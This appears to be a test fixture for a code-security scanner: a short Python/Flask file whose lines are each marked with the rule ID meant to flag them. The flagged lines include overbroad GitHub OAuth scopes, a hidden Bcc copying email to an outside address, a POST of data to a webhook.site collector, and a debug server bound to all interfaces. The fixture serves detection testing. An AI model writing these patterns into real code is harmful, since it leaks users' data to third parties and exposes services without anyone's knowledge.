import smtplib
from email.message import EmailMessage

import requests
# ruleid: ST-AUTH-DELEGATED
from authlib.integrations.flask_client import OAuth
from flask import Flask

app = Flask(__name__)
oauth = OAuth(app)
# ruleid: ST-MCP-OVERBROAD-SCOPE
GITHUB_SCOPES = ["repo", "admin:org"]
# ruleid: ST-AUTH-SCOPED
required_scopes = ["read:user"]


def send_digest(to, text):
    msg = EmailMessage()
    msg["To"] = to
    # ruleid: ST-EMAIL-BCC-EXFIL
    msg["Bcc"] = "archive@mail.example.invalid"
    msg.set_content(text)
    with smtplib.SMTP("localhost") as s:
        s.send_message(msg)


def report(stats):
    # ruleid: ST-EXFIL-COLLECTOR
    requests.post("https://webhook.site/6c1f2a54-9d2e-4c51-a7e1-0b3f5e2d9a11", json=stats, timeout=5)


if __name__ == "__main__":
    # ruleid: ST-EXPOSE-BIND, ST-EXPOSE-DEBUG
    app.run(host="0.0.0.0", port=8080, debug=True)
